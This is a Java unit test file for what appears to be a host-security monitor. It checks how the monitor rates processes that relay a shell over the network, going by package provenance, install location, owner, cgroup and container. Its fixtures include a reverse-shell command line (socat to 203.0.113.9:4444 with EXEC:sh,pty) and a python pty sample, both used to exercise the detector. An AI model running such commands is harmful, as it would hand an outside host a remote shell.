package io.totem.policy.behaviour;

import static io.totem.policy.testing.SampleBuilder.program;
import static org.assertj.core.api.Assertions.assertThat;

import io.totem.policy.access.Account;
import io.totem.policy.access.FileAccess;
import io.totem.policy.facts.Behaviour;
import io.totem.policy.facts.Relations;
import io.totem.policy.facts.Relations.ShellRelay;
import io.totem.policy.facts.Relations.ShellRelay.Standing;
import io.totem.policy.place.ExecutableLocations;
import io.totem.policy.provenance.FileOrigin;
import io.totem.policy.provenance.FileOrigin.State;
import io.totem.policy.provenance.Provenance;
import io.totem.policy.testing.SampleBuilder;
import io.totem.procfs.Connection;
import io.totem.procfs.ListeningSocket;
import io.totem.procfs.ProcessSample;
import io.totem.procfs.ProcessSweep;
import java.net.InetAddress;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class ShellRelayStandingsTest {

    private static final int IMAGE = 100_000;
    private static final String SERVICE = "/system.slice/ci.service";

    @ParameterizedTest
    @CsvSource({
        "/usr/sbin/sshd,                 0,    UNCHANGED,  SYSTEM",
        "/usr/sbin/sshd,                 0,    UPDATED,    SYSTEM",
        "/usr/sbin/sshd,                 0,    UNKNOWN,    SYSTEM",
        "/snap/ssm/1/ssm-session-worker, 0,    UNPACKAGED, SYSTEM",
        "/usr/local/bin/gitlab-runner,   0,    UNPACKAGED, ADMIN",
        "/usr/local/bin/gitlab-runner,   1000, UNPACKAGED, NOBODY",
        "/home/ci/bin/gitlab-runner,     0,    UNPACKAGED, NOBODY",
        "/home/ci/bin/sshd-session,      1000, UNPACKAGED, NOBODY",
        "/home/ci/bin/tmux,              1000, UNKNOWN,    NOBODY"
    })
    void a_program_is_vouched_for_by_its_package_or_by_its_place_and_its_owner_never_by_its_name(
            String path, int owner, State state, Standing expected) {
        assertThat(standing(program(path).cgroup(SERVICE), false, owner, state)).isEqualTo(expected);
    }

    @Test
    void a_person_who_is_logged_in_vouches_for_his_own_program_and_his_cron_job_does_not() {
        assertThat(standing(program("/home/kim/bin/zed"), false, 1000, State.UNKNOWN))
                .isEqualTo(Standing.PERSON);
        assertThat(standing(
                        program("/home/kim/bin/zed").cgroup("/system.slice/cron.service"), false, 1000, State.UNKNOWN))
                .isEqualTo(Standing.NOBODY);
    }

    @ParameterizedTest
    @CsvSource({
        "/user.slice/user-1000.slice/user@1000.service/app.slice/app-gnome-zed-4711.scope,      PERSON",
        "/user.slice/user-1000.slice/user@1000.service/app.slice/app-dev.zed.Zed@8e3f0c.service, PERSON",
        "/user.slice/user-1000.slice/user@1000.service/app.slice/sync.service,                   NOBODY"
    })
    void what_a_desktop_starts_is_the_persons_own_and_a_service_of_the_users_manager_is_not(
            String cgroup, Standing expected) {
        assertThat(standing(program("/home/kim/bin/zed").cgroup(cgroup), false, 1000, State.UNKNOWN))
                .isEqualTo(expected);
    }

    @Test
    void in_a_container_without_root_of_the_host_the_owner_of_its_programs_vouches_for_them() {
        SampleBuilder sshd = program("/usr/sbin/sshd").container("c".repeat(64));
        assertThat(standing(sshd, false, IMAGE, State.UNKNOWN)).isEqualTo(Standing.SYSTEM);
        assertThat(standing(sshd, false, 101_000, State.UNKNOWN)).isEqualTo(Standing.NOBODY);
        assertThat(standing(program("/app/sshd").container("c".repeat(64)), false, IMAGE, State.UNKNOWN))
                .isEqualTo(Standing.NOBODY);
        // As in LXC and systemd-nspawn, whose machines have no id of an engine.
        assertThat(standing(program("/usr/sbin/sshd").cgroup(SERVICE), false, IMAGE, State.UNKNOWN))
                .isEqualTo(Standing.SYSTEM);
    }

    @Test
    void the_program_of_an_interpreter_and_of_a_loader_says_nothing_of_what_it_runs() {
        SampleBuilder java = program("/usr/lib/jvm/java-21/bin/java").commandLine("java", "-jar", "/home/kim/x.jar");
        assertThat(standing(java.cgroup(SERVICE), true, 0, State.UNCHANGED)).isEqualTo(Standing.NOBODY);
        SampleBuilder loader = program("/usr/lib64/ld-linux-x86-64.so.2")
                .commandLine("/lib64/ld-linux-x86-64.so.2", "/var/lib/x/relay");
        assertThat(standing(loader.cgroup(SERVICE), false, 0, State.UNCHANGED)).isEqualTo(Standing.NOBODY);
        SampleBuilder socat = program("/usr/bin/socat").commandLine("socat", "TCP:203.0.113.9:4444", "EXEC:sh,pty");
        assertThat(standing(socat.cgroup(SERVICE), false, 0, State.UNCHANGED)).isEqualTo(Standing.NOBODY);
    }

    @Test
    void a_relay_that_has_ended_hands_on_nothing_any_more() {
        ShellRelay ended = new ShellRelay(
                998,
                "sshd",
                new Connection(InetAddress.ofLiteral("203.0.113.9"), 4444, 40_000, false),
                false,
                true,
                Standing.NOBODY);
        assertThat(judged(ended, program("/usr/sbin/sshd").pid(999).build(), 0, State.UNCHANGED)
                        .shellRelay())
                .isEmpty();
    }

    @Test
    void nobody_vouches_for_what_an_interpreter_was_given_as_a_text() {
        SampleBuilder python = program("/usr/bin/python3.13").commandLine("python3", "-c", "import pty");
        assertThat(standing(python.cgroup(SERVICE), true, 0, State.UNCHANGED)).isEqualTo(Standing.NOBODY);
    }

    private static Standing standing(SampleBuilder builder, boolean interpreter, int owner, State state) {
        ProcessSample process = builder.pid(999).build();
        Connection connection = new Connection(InetAddress.ofLiteral("203.0.113.9"), 4444, 40_000, false);
        String path = process.executable().orElseThrow();
        String name = path.substring(path.lastIndexOf('/') + 1);
        ShellRelay relay = new ShellRelay(999, name, connection, interpreter, true, Standing.NOBODY);
        return judged(relay, process, owner, state).shellRelay().orElseThrow().standing();
    }

    private static Relations judged(ShellRelay relay, ProcessSample process, int owner, State state) {
        FileOrigin origin = new FileOrigin(process.executable().orElseThrow(), state, Optional.empty());
        ShellRelayStandings standings = new ShellRelayStandings(
                new ExecutableLocations(List.of("/usr", "/opt"), (_, path) -> access(path, owner)),
                (_, path) -> access(path, owner),
                (_, _) -> new Provenance(Optional.of(origin), Optional.empty(), Optional.empty()));
        return standings
                .judged(
                        Behaviour.NONE.with(Relations.NONE.with(relay)),
                        new ProcessSweep(
                                SampleBuilder.BOOT,
                                Instant.EPOCH,
                                List.of(process),
                                Map.<Integer, List<ListeningSocket>>of(),
                                0))
                .relations();
    }

    private static Optional<FileAccess> access(String path, int owner) {
        return Optional.of(new FileAccess(
                path,
                Optional.of(new Account(
                        path.equals("/usr") ? IMAGE : owner,
                        "owner",
                        owner == 0 ? Account.Kind.ROOT : Account.Kind.PERSON)),
                false,
                Optional.empty(),
                FileAccess.Kind.FILE,
                Optional.empty(),
                Optional.empty(),
                false,
                List.of(),
                false,
                Optional.empty()));
    }
}
